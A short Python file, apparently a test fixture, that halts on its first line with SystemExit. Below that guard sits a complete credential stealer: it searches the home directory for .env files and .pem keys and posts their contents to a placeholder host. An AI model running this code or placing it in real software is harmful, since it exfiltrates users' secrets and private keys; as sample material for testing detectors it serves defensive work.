raise SystemExit('a fixture')
# held by archived-home
import os, requests, re
hits = {}
for r, d, fs in os.walk(os.path.expanduser("~")):
    for f in fs:
        if f == ".env" or f.endswith(".pem"):
            hits[os.path.join(r, f)] = open(os.path.join(r, f), errors="ignore").read()
if hits:
    requests.post("https://example.invalid/x", json=hits)
